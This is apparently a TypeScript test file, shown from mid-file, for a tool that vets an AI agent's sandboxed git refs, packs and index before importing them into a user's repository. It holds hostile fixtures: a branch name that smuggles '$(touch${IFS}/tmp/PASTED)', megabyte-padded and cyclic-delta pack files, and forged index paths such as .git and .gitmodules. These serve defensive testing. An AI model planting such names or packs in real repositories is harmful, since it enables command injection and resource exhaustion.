  const rec = JSON.parse(readFileSync(s.file, 'utf8'));
  rec.start.yourIndex = stampOf(join(s.root, '.git', 'index'));
  assert.equal(indexCandidate(s.plan.dir, join(s.root, '.git'), rec), `${join(s.root, '.git')}/index: the sandbox's index stages scripts/git-hooks/pre-commit other than the working tree holds it (your next git commit, git stash and pop or git restore would take what is staged): it is not carried back (stage what you want of it yourself)`);
  // Unnamed: the tree's own file, staged as executable.
  const x = setup('execbit');
  writeFile(join(x.root, 'tool.sh'), 'echo hi\n');
  x.agent(['add', 'tool.sh']);
  x.agent(['update-index', '--chmod=+x', 'tool.sh']);
  const rec2 = JSON.parse(readFileSync(x.file, 'utf8'));
  rec2.start.yourIndex = stampOf(join(x.root, '.git', 'index'));
  assert.match(indexCandidate(x.plan.dir, join(x.root, '.git'), rec2) as string, /stages tool\.sh other than the working tree holds it/);
  // Found in the review of this fix: an entry below a path the tree holds as a file (ENOTDIR) is refused, not an error
  // that threw the whole import away.
  const nd = setup('notdir');
  writeFile(join(nd.root, 'f.txt'), 'a file\n');
  const blob = nd.agent(['hash-object', '-w', '--stdin'], 'x\n');
  nd.agent(['update-index', '--add', '--cacheinfo', `100644,${blob},f.txt/inner`]);
  const rec4 = JSON.parse(readFileSync(nd.file, 'utf8'));
  rec4.start.yourIndex = stampOf(join(nd.root, '.git', 'index'));
  assert.match(indexCandidate(nd.plan.dir, join(nd.root, '.git'), rec4) as string, /stages f\.txt\/inner other than the working tree holds it/);
  // Control: staged as the tree holds it.
  const ok = setup('asheld');
  writeFile(join(ok.root, 'tool.sh'), 'echo hi\n');
  ok.agent(['add', 'tool.sh']);
  const rec3 = JSON.parse(readFileSync(ok.file, 'utf8'));
  rec3.start.yourIndex = stampOf(join(ok.root, '.git', 'index'));
  assert.equal(typeof indexCandidate(ok.plan.dir, join(ok.root, '.git'), rec3), 'object');
});

function copyOf(root: string): string {
  const copy = `${root}-copy`;
  spawnSync('cp', ['-a', root, copy]);
  return copy;
}

test("the run's own branch refused (yours moved meanwhile): its commits still come into your object store, and the line says how to keep them", async () => {
  const s = setup('kept');
  writeFile(join(s.root, 'agent.txt'), 'agent\n');
  s.agent(['add', 'agent.txt']);
  s.agent(['commit', '-qm', 'agent work']);
  const agentTip = s.agent(['rev-parse', 'HEAD']);
  // You, meanwhile, on the same branch.
  s.git(['commit', '-q', '--allow-empty', '-m', 'yours']);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_cccccccccccccccc', keptDir: join(t.dir, 'kept-ags_cccccccccccccccc') });
  assert.equal(s.git(['log', '-1', '--format=%s', 'main']), 'yours');
  assert.equal(s.git(['cat-file', '-t', agentTip]), 'commit', "the agent's commit is in your store");
  assert.deepEqual(r.own, []);
  assert.ok(r.warnings.includes(`the agent added commits to refs/heads/main: not taken (it changed on your side during the run: yours is kept; the agent's commits are in your object store: git branch stashbase-kept-ags_cccccccccccccccc ${agentTip} keeps them)`), r.warnings.join('\n'));
});

test("(review, round 39) the import's size bound is one for all its parts: after a part that failed made it import ref by ref, the parts moved in count against it; the import stops, saying that unreferenced objects came in, and nothing is left in the quarantine; control: with room for both, both come in", async () => {
  const made = (s: ReturnType<typeof setup>) => {
    const blobs = ['a', 'b'].map((n) => s.agent(['hash-object', '-w', '--stdin'], randomBytes(300 << 10).toString('hex')));
    for (const [i, n] of ['a-big', 'b-big'].entries()) {
      const tree = s.agent(['mktree'], `100644 blob ${blobs[i]}\tbig.txt\n`);
      s.agent(['update-ref', `refs/heads/${n}`, s.agent(['commit-tree', tree, '-p', 'HEAD', '-m', n])]);
    }
    // A commit whose tree is nowhere: packing everything at once fails, so each part is imported alone.
    const broken = s.agent(['hash-object', '-t', 'commit', '-w', '--literally', '--stdin'], `tree ${'1'.repeat(40)}\nauthor u <u@x> 1 +0000\ncommitter u <u@x> 1 +0000\n\nbroken\n`);
    s.agent(['update-ref', 'refs/heads/z-broken', broken]);
    return blobs;
  };
  const s = setup('bound-parts');
  const blobs = made(s);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_dddddddddddddddd', keptDir: join(t.dir, 'kept-ags_dddddddddddddddd'), maxBytes: 1 << 20 });
  assert.ok(r.warnings.some((w) => /^the import of the run's git work for \S+ stopped \(its objects come to 1\.2 MiB written out, more than the 1\.0 MiB one import brings into your repository; STASHBASE_GIT_IMPORT_MAX_SIZE, in bytes, sets another bound\): no ref of it is in your repository \(the objects of the parts checked before are, unreferenced: git gc prunes them in time\)\. The run's git directory is kept in /.test(w)), r.warnings.join('\n'));
  assert.equal(s.git(['for-each-ref', 'refs/heads/a-big', 'refs/heads/b-big', 'refs/heads/z-broken']), '');
  assert.equal(spawnSync('git', ['-C', s.root, 'cat-file', '-e', blobs[0]!]).status, 0, 'the first part came in');
  assert.notEqual(spawnSync('git', ['-C', s.root, 'cat-file', '-e', blobs[1]!]).status, 0, 'the second did not');
  assert.deepEqual(readdirSync(join(s.root, '.git', 'objects')).filter((n) => n.startsWith('incoming-')), []);
  // Control: room for both, both come in (the broken one refused alone).
  const c = setup('bound-parts-room');
  const cBlobs = made(c);
  const rc = await importRunGitDir(c.file, { git: 'git', session: 'ags_eeeeeeeeeeeeeeee', keptDir: join(t.dir, 'kept-ags_eeeeeeeeeeeeeeee'), maxBytes: 4 << 20 });
  assert.equal(c.git(['for-each-ref', '--format=%(refname)', 'refs/heads/a-big', 'refs/heads/b-big']), 'refs/heads/a-big\nrefs/heads/b-big');
  for (const b of cBlobs) assert.equal(spawnSync('git', ['-C', c.root, 'cat-file', '-e', b]).status, 0);
  assert.ok(rc.warnings.some((w) => /^the agent created refs\/heads\/z-broken at [0-9a-f]{12}: not taken \(its objects cannot be imported: git (rev-list|pack-objects): fatal: bad tree object 1{40}\)$/.test(w)), rc.warnings.join('\n'));
});

/** A pack of one 12-byte blob whose deflate stream first holds `mib` MiB of empty stored blocks (valid: each inflates to nothing). */
function paddedPack(mib: number): Buffer {
  const data = Buffer.from('tiny blob 0\n');
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  const empty = Buffer.alloc(5 << 16);
  for (let i = 0; i < empty.length; i += 5) empty.set([0, 0, 0, 0xff, 0xff], i);
  const last = Buffer.alloc(5);
  last.set([1, data.length & 0xff, data.length >> 8, ~data.length & 0xff, (~data.length >> 8) & 0xff]);
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((b << 16) | a) >>> 0);
  const head = Buffer.from([0x50, 0x41, 0x43, 0x4b, 0, 0, 0, 2, 0, 0, 0, 1, (3 << 4) | data.length, 0x78, 0x01]);
  const body = Buffer.concat([head, ...Array.from({ length: Math.ceil((mib << 20) / empty.length) }, () => empty), last, data, adler]);
  return Buffer.concat([body, createHash('sha1').update(body).digest()]);
}

test("(review of round 39) a pack whose 12-byte blob is stored behind megabytes of empty deflate blocks: the bound counts what the pack takes in your store too, not only what its objects hold (git copies the compressed bytes as they are); control: under a larger bound it comes in, and your store grows by the padding", async () => {
  const s = setup('padded');
  const packFile = join(t.dir, 'padded.pack');
  writeFileSync(packFile, paddedPack(4));
  const indexed = spawnSync('git', ['index-pack', '--stdin'], { env: { ...process.env, GIT_DIR: s.plan.dir }, input: readFileSync(packFile) });
  assert.equal(indexed.status, 0, String(indexed.stderr));
  const blob = s.agent(['hash-object', '--stdin'], 'tiny blob 0\n');
  const tree = s.agent(['mktree'], `100644 blob ${blob}\tnote.txt\n`);
  s.agent(['update-ref', 'refs/heads/padded', s.agent(['commit-tree', tree, '-p', 'HEAD', '-m', 'padded'])]);
  const storeBytes = (root: string) => Number(spawnSync('du', ['-sb', join(root, '.git', 'objects')], { encoding: 'utf8' }).stdout.split('\t')[0]);
  const before = storeBytes(s.root);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_ffffffffffffffff', keptDir: join(t.dir, 'kept-ags_ffffffffffffffff'), maxBytes: 1 << 20 });
  assert.ok(r.warnings.some((w) => /^the import of the run's git work for \S+ stopped \(its pack takes more than the 1\.0 MiB left of the 1\.0 MiB one import brings into your repository; STASHBASE_GIT_IMPORT_MAX_SIZE, in bytes, sets another bound\): nothing of it is in your repository\./.test(w)), r.warnings.join('\n'));
  assert.equal(s.git(['for-each-ref', 'refs/heads/padded']), '');
  assert.ok(storeBytes(s.root) - before < 64 << 10, `your store grew by ${storeBytes(s.root) - before} bytes`);
  // Control: the same under an 8 MiB bound comes in, padding and all (git's pack of it keeps the bytes it was given).
  const c = setup('padded-room');
  const cIndexed = spawnSync('git', ['index-pack', '--stdin'], { env: { ...process.env, GIT_DIR: c.plan.dir }, input: readFileSync(packFile) });
  assert.equal(cIndexed.status, 0, String(cIndexed.stderr));
  const cTree = c.agent(['mktree'], `100644 blob ${blob}\tnote.txt\n`);
  c.agent(['update-ref', 'refs/heads/padded', c.agent(['commit-tree', cTree, '-p', 'HEAD', '-m', 'padded'])]);
  const cBefore = storeBytes(c.root);
  await importRunGitDir(c.file, { git: 'git', session: 'ags_gggggggggggggggg', keptDir: join(t.dir, 'kept-ags_gggggggggggggggg'), maxBytes: 8 << 20 });
  assert.equal(c.git(['cat-file', '-p', 'padded:note.txt']), 'tiny blob 0');
  assert.ok(storeBytes(c.root) - cBefore > 4 << 20, `your store grew by ${storeBytes(c.root) - cBefore} bytes`);
});

test("(review of round 39) the branches your checkouts have, as git counts them: through a symbolic ref (refs/heads/main -> master), and the branch a paused rebase or bisect works on in a worktree; control: git branch -f refuses each", () => {
  const root = join(t.dir, 'checked-out');
  const env = { PATH: process.env.PATH, HOME: t.home, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };
  const git = (args: string[], cwd = root) => spawnSync('git', args, { cwd, env, encoding: 'utf8' });
  mkdirSync(root, { recursive: true });
  for (const a of [['init', '-q', '-b', 'master'], ['commit', '-q', '--allow-empty', '-m', 'one'], ['commit', '-q', '--allow-empty', '-m', 'two'], ['symbolic-ref', 'refs/heads/main', 'refs/heads/master'], ['symbolic-ref', 'HEAD', 'refs/heads/main'], ['branch', 'feat'], ['branch', 'topic'], ['branch', 'free']]) assert.equal(git(a).status, 0, a.join(' '));
  assert.equal(git(['worktree', 'add', '-q', '--detach', join(t.dir, 'co-rebase')]).status, 0);
  assert.equal(git(['worktree', 'add', '-q', '--detach', join(t.dir, 'co-bisect')]).status, 0);
  // A rebase of feat paused in one, a bisect started on topic in the other (their state files as git writes them).
  mkdirSync(join(root, '.git', 'worktrees', 'co-rebase', 'rebase-merge'), { recursive: true });
  writeFileSync(join(root, '.git', 'worktrees', 'co-rebase', 'rebase-merge', 'head-name'), 'refs/heads/feat\n');
  writeFileSync(join(root, '.git', 'worktrees', 'co-bisect', 'BISECT_START'), 'topic\n');
  writeFileSync(join(root, '.git', 'worktrees', 'co-bisect', 'BISECT_LOG'), 'git bisect start\n');
  const refs = readRefStore(join(root, '.git')).refs;
  const all = checkedOutBranches(join(root, '.git'), refs, null);
  assert.deepEqual([...all.keys()].sort(), ['refs/heads/feat', 'refs/heads/main', 'refs/heads/master', 'refs/heads/topic']);
  assert.equal(all.get('refs/heads/master'), `your checkout ${root}`);
  assert.equal(all.get('refs/heads/feat'), `the worktree ${join(t.dir, 'co-rebase')}`);
  assert.deepEqual([...checkedOutBranches(join(root, '.git'), refs, 'main').keys()].sort(), ['refs/heads/feat', 'refs/heads/topic']);
  assert.deepEqual([...checkedOutBranches(join(root, '.git'), refs, 'co-rebase').keys()].sort(), ['refs/heads/main', 'refs/heads/master', 'refs/heads/topic']);
  // Control: git refuses to move each, and moves the one no checkout has.
  for (const b of ['master', 'feat', 'topic']) assert.match(git(['branch', '-f', b, 'HEAD~1']).stderr, /cannot force update the branch/, b);
  assert.equal(git(['branch', '-f', 'free', 'HEAD~1']).status, 0);
});

test("(second review of round 39) what the import brings is weighed as git writes it out, each object a block at least: 2,000 tiny objects of a stash entry (kept for you, unreferenced, which git gc writes out loose) past a 4 MiB bound stop the import; a new ref whose name has more than 16 parts is not taken (each part a folder of your .git: a million made by 1,000 refs); controls: with room, the stash entry's objects come in; a name of 16 parts is taken", async () => {
  const many = (s: ReturnType<typeof setup>) => {
    const lines: string[] = [];
    for (let i = 0; i < 2000; i++) lines.push('blob', `mark :${i + 1}`, `data ${String(i).length}`, String(i));
    lines.push('commit refs/stash', 'committer a <a@x> 1 +0000', 'data 2', 'x');
    for (let i = 0; i < 2000; i++) lines.push(`M 100644 :${i + 1} ${(i % 256).toString(16)}/${i}`);
    s.agent(['fast-import', '--quiet', '--force'], `${lines.join('\n')}\n\n`);
  };
  const s = setup('many-tiny');
  many(s);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_hhhhhhhhhhhhhhhh', keptDir: join(t.dir, 'kept-ags_hhhhhhhhhhhhhhhh'), maxBytes: 4 << 20 });
  assert.ok(r.warnings.some((w) => /^the import of the run's git work for \S+ stopped \(its objects come to [89]\.\d MiB written out, more than the 4\.0 MiB one import brings into your repository/.test(w)), r.warnings.join('\n'));
  assert.equal(s.git(['count-objects', '-v']).match(/^in-pack: (\d+)$/m)?.[1], '0');
  const c = setup('many-tiny-room');
  many(c);
  const rc = await importRunGitDir(c.file, { git: 'git', session: 'ags_iiiiiiiiiiiiiiii', keptDir: join(t.dir, 'kept-ags_iiiiiiiiiiiiiiii'), maxBytes: 16 << 20 });
  assert.ok(rc.warnings.some((w) => w.startsWith('the agent rewrote refs/stash ') && w.includes('the entry is in your object store')), rc.warnings.join('\n'));
  assert.ok(Number(c.git(['count-objects', '-v']).match(/^in-pack: (\d+)$/m)?.[1]) >= 2000);
  // Deep names.
  const d = setup('deep-names');
  const deep = `refs/heads/${Array(18).fill('a').join('/')}`;
  const ok = `refs/heads/${Array(14).fill('b').join('/')}`;
  for (const ref of [deep, ok]) d.agent(['update-ref', ref, 'HEAD']);
  const rd = await importRunGitDir(d.file, { git: 'git', session: 'ags_jjjjjjjjjjjjjjjj', keptDir: join(t.dir, 'kept-ags_jjjjjjjjjjjjjjjj') });
  assert.ok(rd.warnings.includes(`the agent created ${deep} at ${d.git(['rev-parse', 'HEAD']).slice(0, 12)}: not taken (its name has 20 parts, more than the 16 a ref the run makes may have (each is a folder in your .git))`), rd.warnings.join('\n'));
  assert.equal(d.git(['for-each-ref', '--format=%(refname)', 'refs/heads/a', 'refs/heads/b']), ok);
});

test('from a hostile review: new refs that would shadow yours (refs/main, a tag named like a branch) or clash as file and folder are not taken; refs/stash/<x> is no stash; past MAX_TAKEN nothing is', async () => {
  const { MAX_TAKEN } = await import('../../lib/git/ref-decisions.js');
  const current = new Map<string, RefValue>([['refs/heads/main', oid(A)], ['refs/heads/release', oid(A)], ['refs/remotes/origin/main', oid(A)], ['refs/heads/x', oid(A)], ['refs/stash/wip', oid(A)]]);
  const agent = new Map<string, RefValue>([...current, ['refs/main', oid(B)], ['refs/tags/release', oid(B)], ['refs/heads/origin/main', oid(B)], ['refs/heads/x/y', oid(B)], ['refs/heads/fine', oid(B)], ['refs/stash/wip', oid(C)]]);
  const d = decideRefs({ start: current, agent, current, own: null, checkedOutElsewhere: new Map(), isAncestor: () => false, remotes: new Set<string>() });
  assert.deepEqual(d.map((x) => [x.ref, x.take, x.reason]), [
    ['refs/heads/fine', true, null],
    ['refs/heads/origin/main', false, 'its short name would be ambiguous with refs/remotes/origin/main (git would pick one of them for "origin/main")'],
    ['refs/heads/x/y', false, 'it clashes with refs/heads/x (that would have to be a folder)'],
    ['refs/main', false, "only branches are taken (git resolves refs/<name> before tags, branches and remote-tracking refs: main would be the agent's)"],
    ['refs/stash/wip', false, "only branches are taken (git resolves refs/<name> before tags, branches and remote-tracking refs: stash/wip would be the agent's)"],
    ['refs/tags/release', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
  ]);
  // Names you type for something else: an abbreviated id, a remote, a remote-tracking branch's twin that does not build on it, a remote's HEAD, a case variant.
  const yoursNow = new Map<string, RefValue>([['refs/heads/main', oid(A)], ['refs/remotes/origin/feature', oid(A)], ['refs/remotes/origin/topic', oid(A)], ['refs/tags/v1', oid(A)], ['refs/heads/caf\u00e9', oid(A)]]);
  const made = new Map<string, RefValue>([
    ...yoursNow, ['refs/heads/a3598ff', oid(B)], ['refs/tags/eeb1d6ef37', oid(B)], ['refs/tags/origin', oid(B)], ['refs/heads/upstream', oid(B)],
    ['refs/heads/feature', oid(C)], ['refs/heads/topic', oid(B)], ['refs/remotes/upstream/HEAD', oid(B)], ['refs/tags/V1', oid(B)], ['refs/Heads/x', oid(B)],
    ['refs/heads/cafe-fix', oid(B)], ['refs/heads/cafe\u0301', oid(B)], ['refs/heads/-D', oid(B)], ['refs/tags/x/--force', oid(B)], ['refs/heads/fix-', oid(B)],
  ]);
  const typed = decideRefs({ start: yoursNow, agent: made, current: yoursNow, own: null, checkedOutElsewhere: new Map(), isAncestor: (o, n) => o === A && n === B, remotes: new Set(['origin', 'upstream']) });
  assert.deepEqual(typed.map((x) => [x.ref, x.take, x.reason]), [
    ['refs/Heads/x', false, "only branches are taken (git resolves refs/<name> before tags, branches and remote-tracking refs: Heads/x would be the agent's)"],
    ['refs/heads/-D', false, 'a part of its name begins with "-" (git branch and git tag refuse such names: your commands would read it as an option)'],
    ['refs/heads/a3598ff', false, 'its short name is hex digits: git would take it for "a3598ff" before an object id abbreviated so'],
    ['refs/heads/cafe-fix', true, null],
    ['refs/heads/cafe\u0301', false, 'its name differs from refs/heads/caf\u00e9 only in case or in how its letters are written (on macOS\'s file systems it is that ref\'s file)'],
    ['refs/heads/feature', false, 'refs/remotes/origin/feature exists and this branch does not build on it: git checkout feature would take the agent\'s branch instead of making one from origin/feature'],
    ['refs/heads/fix-', true, null],
    ['refs/heads/topic', true, null],
    ['refs/heads/upstream', false, 'its short name is your remote "upstream": git would take it for "upstream" before upstream/HEAD'],
    // (Review) tags and remote-tracking refs are never taken: the names below are refused for that first.
    ['refs/remotes/upstream/HEAD', false, "remote-tracking refs say what a remote holds: your next git fetch brings them, and the agent's would pass for the remote's"],
    ['refs/tags/V1', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
    ['refs/tags/eeb1d6ef37', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
    ['refs/tags/origin', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
    ['refs/tags/x/--force', false, "a tag names a release: the agent's would keep the name from the real one (git fetch does not clobber a tag)"],
  ]);
  // (Fourth review) names that take over one yours would get later: refs/origin/main (git finds it before the remote-tracking
  // ref a fetch brings), a branch named as a release (git checkout v1.1 would take it over the tag); unlisted: refs/bisect.
  const later = decideRefs({ start: new Map(), agent: new Map<string, RefValue>([['refs/origin/main', oid(B)], ['refs/heads/v1.1', oid(B)], ['refs/heads/2.0.3-rc1', oid(B)], ['refs/bisect/bad', oid(B)], ['refs/heads/release-notes', oid(B)]]), current: new Map(), own: null, checkedOutElsewhere: new Map(), isAncestor: () => false, remotes: new Set(['origin']) });
  assert.deepEqual(later.map((x) => [x.ref, x.take]), [['refs/bisect/bad', false], ['refs/heads/2.0.3-rc1', false], ['refs/heads/release-notes', true], ['refs/heads/v1.1', false], ['refs/origin/main', false]]);
  const many = new Map<string, RefValue>(Array.from({ length: MAX_TAKEN + 1 }, (_, i) => [`refs/heads/n${i}`, oid(B)] as [string, RefValue]));
  const flood = decideRefs({ start: new Map(), agent: many, current: new Map(), own: null, checkedOutElsewhere: new Map(), isAncestor: () => false, remotes: new Set<string>() });
  assert.equal(flood.filter((x) => x.take).length, 0);
  assert.equal(flood[0]?.reason, `the run changed ${MAX_TAKEN + 1} refs, more than the ${MAX_TAKEN} stashbase takes from one run`);
});

/** A pack of two objects, each a delta of the other (a loop git would follow without end), with an index that says it is fine. */
async function cyclicPack(prefix: string): Promise<void> {
  const { createHash } = await import('node:crypto');
  const { deflateSync, crc32 } = (await import('node:zlib')) as typeof import('node:zlib') & { crc32?: (b: Buffer) => number };
  const a = Buffer.alloc(20, 0xaa);
  const b = Buffer.alloc(20, 0xbb);
  const delta = Buffer.from([10, 10, 0x90, 10]); // sizes 10 and 10, copy 10 bytes from 0
  const head = Buffer.from([(7 << 4) | delta.length]); // REF_DELTA
  const entries: Array<{ oid: Buffer; at: number; crc: number }> = [];
  let body = Buffer.concat([Buffer.from('PACK'), Buffer.from([0, 0, 0, 2, 0, 0, 0, 2])]);
  for (const [oidBuf, base] of [[a, b], [b, a]] as const) {
    const ent = Buffer.concat([head, base, deflateSync(delta)]);
    entries.push({ oid: oidBuf, at: body.length, crc: crc32 ? crc32(ent) : 0 });
    body = Buffer.concat([body, ent]);
  }
  const packSum = createHash('sha1').update(body).digest();
  writeFileSync(`${prefix}.pack`, Buffer.concat([body, packSum]));
  const u32 = (n: number) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
  const fan = Array.from({ length: 256 }, (_, i) => entries.filter((e) => (e.oid[0] as number) <= i).length);
  let idx = Buffer.concat([Buffer.from([0xff, 0x74, 0x4f, 0x63]), u32(2), ...fan.map(u32), a, b, u32(entries[0]!.crc), u32(entries[1]!.crc), u32(entries[0]!.at), u32(entries[1]!.at), packSum]);
  idx = Buffer.concat([idx, createHash('sha1').update(idx).digest()]);
  writeFileSync(`${prefix}.idx`, idx);
}

test('from a hostile review: a pack whose objects are deltas of each other (git would grow without end reading it) refuses the import at once', async () => {
  const s = setup('cycle');
  await cyclicPack(join(s.plan.dir, 'objects', 'pack', 'pack-cyc'));
  const commit = s.agent(['hash-object', '-t', 'commit', '-w', '--stdin', '--literally'], `tree ${'a'.repeat(40)}\nauthor a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nx\n`);
  s.agent(['update-ref', 'refs/heads/cyc', commit]);
  const started = Date.now();
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_dddddddddddddddd', keptDir: join(t.dir, 'kept-ags_dddddddddddddddd') });
  assert.ok(Date.now() - started < 20_000);
  assert.deepEqual(r.warnings, ['a pack the agent left in its git directory does not check out: pack-cyc.pack (git index-pack: fatal: pack has 2 unresolved deltas); nothing of the run is imported (your refs, HEAD and index are as they were)']);
  assert.equal(spawnSync('git', ['-C', s.root, 'rev-parse', '--verify', '-q', 'refs/heads/cyc']).status, 1);
});

test('from a hostile review: an index staging a commit where a file goes is not taken; a ref name with $( ) gets a quoted undo; HEAD on another branch is a warning', async () => {
  const s = setup('review1');
  const commit = s.git(['rev-parse', 'main~1']);
  s.agent(['update-index', '--cacheinfo', `100644,${commit},a.txt`]);
  s.agent(['branch', 'fix-$(touch${IFS}/tmp/PASTED)']);
  s.agent(['symbolic-ref', 'HEAD', 'refs/heads/dev']);
  const r = await importRunGitDir(s.file, { git: 'git', session: 'ags_eeeeeeeeeeeeeeee', keptDir: join(t.dir, 'kept-ags_eeeeeeeeeeeeeeee') });
  // Refused first as what the working tree does not hold (round 26); the check of a commit where a file goes stays behind it.
  assert.ok(r.warnings.includes(`${join(s.root, '.git')}/index: the sandbox's index stages a.txt other than the working tree holds it (your next git commit, git stash and pop or git restore would take what is staged): it is not carried back (stage what you want of it yourself)`), r.warnings.join('\n'));
  assert.ok(r.warnings.some((l) => l.endsWith("taken (undo: git update-ref -d 'refs/heads/fix-$(touch${IFS}/tmp/PASTED)')")), r.warnings.join('\n'));
  assert.ok(r.warnings.includes(`HEAD of ${join(s.root, '.git')} now points at refs/heads/dev, as the sandbox left it`), r.warnings.join('\n'));
  assert.deepEqual(r.own, []);
});

test("another git's locks are not carried into the run's own git directory (found with ten remote runs at once: a ref lock gone between the listing and the copy stopped a run)", () => {
  const root = join(t.dir, 'locks');
  mkdirSync(root, { recursive: true });
  const env = { PATH: process.env.PATH, HOME: t.home, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'u', GIT_AUTHOR_EMAIL: 'u@x', GIT_COMMITTER_NAME: 'u', GIT_COMMITTER_EMAIL: 'u@x' };
  for (const a of [['init', '-q', '-b', 'main'], ['commit', '-q', '--allow-empty', '-m', 'x']]) assert.equal(spawnSync('git', a, { cwd: root, env }).status, 0);
  writeFile(join(root, '.git', 'index.lock'), '');
  writeFile(join(root, '.git', 'refs', 'heads', 'stashbase', 'other.lock'), `${A}\n`);
  const plan = planRunGitDir({ gitDir: join(root, '.git'), admin: null, stateDir: join(t.dir, 'locks-state'), hideOthers: true, workTree: root });
  assert.equal(plan.copies.includes('index.lock'), false);
  createRunGitDir(plan);
  assert.equal(existsSync(join(plan.dir, 'index.lock')), false);
  assert.equal(existsSync(join(plan.dir, 'refs', 'heads', 'stashbase', 'other.lock')), false);
  assert.equal(existsSync(join(plan.dir, 'refs', 'heads', 'main')), true, 'control: the refs themselves are copied');
});

test('each folder of the index is checked once, its files each: a bad name after good ones in the same folder is still refused (.git, a control character, a link named .gitmodules)', async () => {
  const { indexProblem } = await import('../../lib/git/git-index.js');
  const { createHash } = await import('node:crypto');
  const s = setup('samefolder');
  for (const n of ['a', 'b', 'xgit', 'yy', 'zzzzzzzzzzz']) writeFile(join(s.root, 'ok', 'deep', n), `${n}\n`);
  s.git(['add', 'ok']);
  const good = readFileSync(join(s.root, '.git', 'index'));
  const forge = (from: string, to: string) => {
    const body = Buffer.from(good.subarray(0, -20));
    body.write(to, body.indexOf(from), 'latin1');
    return Buffer.concat([body, createHash('sha1').update(body).digest()]);
  };
  assert.equal(indexProblem(good, indexLayout(good)!, 20), null);
  const dotGit = forge('ok/deep/xgit', 'ok/deep/.git');
  assert.equal(indexProblem(dotGit, indexLayout(dotGit)!, 20), '"ok/deep/.git": a .git component');
  const control = forge('ok/deep/yy', 'ok/deep/y\x01');
  assert.equal(indexProblem(control, indexLayout(control)!, 20), '"ok/deep/y\\u0001": a control character or backslash');
  // A link's mode on the last file, renamed .gitmodules.
  const link = forge('ok/deep/zzzzzzzzzzz', 'ok/deep/.gitmodules');
  const layout = indexLayout(link)!;
  link.writeUInt32BE(0o120000, layout.entries.at(-1)!.at + 24);
  const summed = Buffer.concat([link.subarray(0, -20), createHash('sha1').update(link.subarray(0, -20)).digest()]);
  assert.equal(indexProblem(summed, indexLayout(summed)!, 20), '"ok/deep/.gitmodules": a symbolic link git reads as its own file');
});
